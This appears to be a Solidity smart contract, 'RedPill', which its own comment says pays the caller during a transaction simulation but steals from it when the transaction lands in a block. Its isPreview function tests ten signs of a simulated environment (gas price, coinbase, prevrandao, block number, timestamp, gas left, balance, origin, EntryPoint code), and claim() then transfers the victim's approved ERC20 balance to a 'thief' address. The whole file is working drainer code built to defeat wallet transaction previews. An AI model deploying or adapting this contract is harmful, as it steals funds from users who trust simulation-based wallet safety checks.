// SPDX-License-Identifier: MIT
pragma solidity ^0.8.28;

import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";

/// Pays the caller in a simulation but steals from it in a block. Each `Sign` is a way to detect a simulation. The page
/// passes the `mark` to compare with, because it can read the newest block.
contract RedPill {
    enum Sign { Fees, Coinbase, Randao, Number, Time, Gas, Balance, Origin, EntryPoint, EntryPointCode }

    uint256 private constant pay = 4000e6;
    address private constant entryPoint = 0x0000000071727De22E5E9d8BAf0edAc6f37da032;
    IERC20 private immutable token;
    address private immutable thief;
    Sign private immutable sign;
    bytes32 private immutable entryPointCode = entryPoint.codehash;

    constructor(IERC20 token_, address thief_, Sign sign_) {
        token = token_;
        thief = thief_;
        sign = sign_;
    }

    function claim(uint256 mark) external payable {
        if (isPreview(mark)) return play();
        uint256 allowed = token.allowance(msg.sender, address(this));
        uint256 held = token.balanceOf(msg.sender);
        token.transferFrom(msg.sender, thief, allowed < held ? allowed : held);
    }

    /// Burns gas, so that the gas limit estimated in a simulation also covers the theft.
    function play() private {
        token.transfer(msg.sender, pay);
        uint256 burnt;
        for (uint256 i; i < 500; ++i) burnt = uint256(keccak256(abi.encode(burnt, i)));
        require(burnt != 1);
    }

    function isPreview(uint256 mark) private view returns (bool) {
        if (sign == Sign.Fees) return tx.gasprice == 0 || block.basefee == 0;
        if (sign == Sign.Coinbase) return uint160(address(block.coinbase)) == mark;
        if (sign == Sign.Randao) return block.prevrandao == mark;
        if (sign == Sign.Number) return block.number <= mark;
        if (sign == Sign.Time) return block.timestamp <= mark;
        if (sign == Sign.Gas) return gasleft() > mark;
        if (sign == Sign.Balance) return msg.sender.balance + msg.value >= mark;
        if (sign == Sign.Origin) return tx.origin == msg.sender;
        if (sign == Sign.EntryPoint) return tx.origin.code.length > 0;
        return entryPoint.codehash != entryPointCode;
    }
}
